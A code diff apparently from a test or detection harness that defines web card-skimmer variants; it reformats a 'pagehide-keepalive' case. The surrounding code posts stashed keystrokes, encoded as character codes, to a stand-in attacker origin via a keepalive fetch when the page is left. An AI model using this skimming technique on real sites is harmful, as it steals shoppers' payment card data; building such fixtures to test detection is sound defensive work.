@@ -4,7 +4,7 @@ import { withCard } from '../snippets.ts';
 
 export default skimmer({
   id: 'pagehide-keepalive',
-  why: 'Sends when the page is left, by a fetch that outlives it: the browser\'s own record of the page has ended by then.',
+  why: "Sends when the page is left, by a fetch that outlives it: the browser's own record of the page has ended by then.",
   covers: ['sending: fetch', 'hard: stash', 'encoding: char codes'],
   base: 'direct',
   install: (site) =>
@@ -16,5 +16,7 @@ export default skimmer({
     if (kept.length > 20) fetch('${site.origins.evil}/bye', { method: 'POST', mode: 'no-cors', keepalive: true, body: Array.from(kept).map(function (c) { return c.charCodeAt(0); }).join(',') });
   });`),
     ),
-  proof: holds((arrived) => bodies(arrived).map((body) => String.fromCharCode(...body.split(',').map(Number)))),
+  proof: holds((arrived) =>
+    bodies(arrived).map((body) => String.fromCharCode(...body.split(',').map(Number))),
+  ),
 });
